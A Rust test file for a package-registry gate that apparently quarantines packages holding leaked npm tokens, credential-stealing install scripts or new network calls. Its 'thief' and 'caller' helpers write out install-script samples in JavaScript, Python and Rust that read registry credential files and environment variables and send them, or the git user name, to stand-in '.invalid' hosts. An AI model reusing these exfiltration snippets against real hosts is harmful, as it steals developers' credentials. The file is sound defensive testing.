//! What looking inside finds, through the clients that people use: the first who asks reads why it is held, the next gets
//! the version before. Samples are inert: what they would send goes to names that cannot exist.

use std::fs;
use std::path::Path;

use tidegate_testkit::{Package, PythonForms, Style};

use crate::clients_any::{Client, clients, shows};
use crate::clients_support::Site;
use crate::inspection::crc32;

/// `baseline`, where a secret holds what contains it.
const HOLDS_SECRETS: &str = "[policy]\nid = \"test\"\nversion = \"1\"\nextends = \"baseline\"\n[[rule]]\nid = \"secrets\"\naction = \"quarantine\"\n";

/// A token as an npm registry issues them, of random digits that nobody was given.
pub(crate) fn token(seed: u64) -> String {
    const DIGITS: &[u8; 62] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
    let mut state = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
    let mut draw = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        char::from(DIGITS[(state >> 20) as usize % DIGITS.len()])
    };
    let random: String = std::iter::repeat_with(&mut draw).take(30).collect();
    let mut sum = crc32(random.as_bytes());
    let mut check = [b'0'; 6];
    for digit in check.iter_mut().rev() {
        *digit = DIGITS[(sum % 62) as usize];
        sum /= 62;
    }
    format!("npm_{random}{}", String::from_utf8_lossy(&check))
}

/// A site on which `leaf-of-test` is what `published` makes of the client's ecosystem.
fn site(client: &Client, published: impl FnOnce(&dyn Fn(&str) -> Package) -> Vec<Package>) -> Site {
    let mut site = Site::closed(Style::Rich);
    let policy = site.operator.path().join("policy.toml");
    fs::write(&policy, HOLDS_SECRETS).unwrap();
    fs::write(site.data.join("tidegate.toml"), format!("[policy]\nfile = {policy:?}\n")).unwrap();
    // Installing a wheel runs nothing; the oldest pip cannot build from a source distribution whose back end lies in it.
    let make = |version: &str| {
        let forms = if version == "1.0.0" { PythonForms::Both } else { PythonForms::Sdist };
        (client.make)("leaf-of-test", version).forms(forms)
    };
    published(&make).into_iter().for_each(|package| drop(site.upstream.publish(package)));
    site.start_door("127.0.0.1:0");
    site
}

/// The first ask is held with these words; the next gets 1.0.0; whoever pins the version reads the words again.
fn holds_and_steers(client: &Client, site: &Site, version: &str, words: &[&str]) -> String {
    let (first, installed) = client.install(site, client.any);
    assert_eq!(installed.as_deref().filter(|_| client.ecosystem != "cargo"), None, "{}", first.output());
    let first = first.expect_failure();
    shows(&first.output(), words);
    let (next, installed) = client.install(site, client.any);
    assert_eq!(installed.as_deref(), Some("1.0.0"), "{}: {}", client.tool.name(), next.output());
    let steered = format!("steered: pkg:{}/leaf-of-test@1.0.0 instead of {version}", client.ecosystem);
    shows(&next.stderr, &[&steered]);
    let pinned = client.pinned(site, version);
    shows(&pinned, words);
    [first.output(), next.expect_success().output(), pinned].concat()
}

#[test]
fn a_planted_token_is_found_told_and_kept_nowhere() {
    for client in clients() {
        let secret = token(client.tool.name().bytes().map(u64::from).sum());
        let mut site = site(&client, |make| {
            let notes = format!("registry login for releases:\nNPM_TOKEN={secret}\n");
            vec![make("1.0.0"), make("1.1.0").file("RELEASING.md", notes)]
        });
        let read = holds_and_steers(&client, &site, "1.1.0", &["secret"]);
        let told = [
            read,
            site.ask_door("/api/v1/status"),
            site.ask_door(&format!("/api/v1/why?purl=pkg:{}/leaf-of-test@1.1.0", client.ecosystem)),
            site.ask_door(&format!("/api/v1/inspections?purl=pkg:{}/leaf-of-test@1.1.0", client.ecosystem)),
            site.ask_door(&format!("/api/v1/facts?purl=pkg:{}/leaf-of-test@1.1.0", client.ecosystem)),
            site.ask_door("/api/v1/decisions"),
            site.ask_door("/metrics"),
        ];
        assert!(told[3].contains("secrets/npm-token"), "{}", told[3]);
        let logged = site.close_door();
        for text in told.iter().chain([&logged]) {
            lacks(text.as_bytes(), &secret, text);
        }
        let files = files_below(&site.data);
        assert!(files.len() > 5, "{files:?}");
        for file in files {
            lacks(&fs::read(&file).unwrap(), &secret, &file.display().to_string());
        }
    }
}

/// No part of a secret that would help somebody to guess the rest, in whatever spelling.
#[track_caller]
pub(crate) fn lacks(bytes: &[u8], secret: &str, place: &str) {
    let digits = &secret["npm_".len()..];
    for at in 0..digits.len() - 12 {
        let part = &digits.as_bytes()[at..at + 12];
        assert!(!holds(bytes, part), "twelve digits of the token are in {place}");
        assert!(
            !holds(bytes, hex::encode(part).as_bytes()),
            "the token is in {place}, as hexadecimal digits"
        );
        let wide: Vec<u8> = part.iter().flat_map(|byte| [*byte, 0]).collect();
        assert!(!holds(bytes, &wide), "the token is in {place}, as UTF-16");
    }
}

fn holds(bytes: &[u8], part: &[u8]) -> bool {
    memchr::memmem::find(bytes, part).is_some()
}

pub(crate) fn files_below(folder: &Path) -> Vec<std::path::PathBuf> {
    let mut files = Vec::new();
    for entry in fs::read_dir(folder).unwrap().flatten() {
        match entry.file_type().unwrap() {
            kind if kind.is_dir() => files.extend(files_below(&entry.path())),
            kind if kind.is_file() => files.push(entry.path()),
            _ => {}
        }
    }
    files
}

/// An install script that does no harm, so that having one is nothing new.
fn builder(client: &Client, package: Package) -> Package {
    match client.ecosystem {
        "npm" => package
            .runs_on_install("node setup.js")
            .file("setup.js", "console.log('nothing to build on ' + process.platform);\n"),
        "pypi" => package.runs_on_install("SUPPORTED = (3, 6)\n"),
        _ => package.runs_on_install("println!(\"cargo:rerun-if-changed=build.rs\");\n"),
    }
}

/// What a thief's install script is, in the words of the ecosystem.
fn thief(client: &Client, package: Package) -> Package {
    match client.ecosystem {
        "npm" => package.runs_on_install("node setup.js").file(
            "setup.js",
            "const https = require('https'), fs = require('fs'), os = require('os');\n\
             const login = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n\
             const request = https.request('https://collect.invalid/in', { method: 'POST' });\n\
             request.end(JSON.stringify({ login, all: process.env }));\n",
        ),
        "pypi" => package.runs_on_install(
            "import os, json, urllib.request\n\
             login = open(os.path.expanduser('~/.pypirc')).read() if os.path.exists(os.path.expanduser('~/.pypirc')) else ''\n\
             urllib.request.urlopen('https://collect.invalid/in', data=json.dumps([login, dict(os.environ)]).encode())\n",
        ),
        _ => package.runs_on_install(
            "use std::io::Write;\n\
             let home = std::env::var(\"HOME\").unwrap_or_default();\n\
             let login = std::fs::read_to_string(home + \"/.cargo/credentials.toml\").unwrap_or_default();\n\
             if let Ok(mut stream) = std::net::TcpStream::connect(\"collect.invalid:443\") {\n\
                 let _ = stream.write_all(login.as_bytes());\n\
             }\n",
        ),
    }
}

#[test]
fn an_install_script_that_sends_credentials_is_held_before_it_runs() {
    for client in clients() {
        let site = site(&client, |make| vec![builder(&client, make("1.0.0")), thief(&client, make("1.1.0"))]);
        holds_and_steers(&client, &site, "1.1.0", &["contents-", "behaviour/exfil-"]);
        // The person who looks after it reads every finding with its place.
        let purl = format!("pkg:{}/leaf-of-test@1.1.0", client.ecosystem);
        let why = site.tidegate(&site.operator, &["why", &purl]).run().expect_success();
        shows(&why.stdout, &["  inside: ", "behaviour/exfil-", "bytes sha256:"]);
    }
}

/// Code that reaches the network as soon as it runs, and takes nothing along.
fn caller(client: &Client, package: Package) -> Package {
    match client.ecosystem {
        "npm" => package.code(
            "const { execSync } = require('child_process');\nconst https = require('https');\n\
             const who = execSync('git config user.name').toString();\n\
             https.request('https://counter.invalid/hit?n=' + who).end();\n",
        ),
        "pypi" => package.runs_on_install(
            "import subprocess, urllib.request\n\
             who = subprocess.run(['git', 'config', 'user.name'], capture_output=True, text=True).stdout\n\
             urllib.request.urlopen('https://counter.invalid/hit?n=' + who)\n",
        ),
        _ => package.runs_on_install(
            "use std::io::Write;\n\
             let who = std::process::Command::new(\"git\").args([\"config\", \"user.name\"]).output();\n\
             if let (Ok(who), Ok(mut stream)) = (who, std::net::TcpStream::connect(\"counter.invalid:80\")) {\n\
                 let _ = stream.write_all(&who.stdout);\n\
             }\n",
        ),
    }
}

#[test]
fn a_patch_release_that_gains_a_network_call_is_held() {
    for client in clients() {
        let site = site(&client, |make| vec![make("1.0.0"), caller(&client, make("1.0.1"))]);
        holds_and_steers(&client, &site, "1.0.1", &["contents-", "behaviour/diff-capability"]);
    }
}
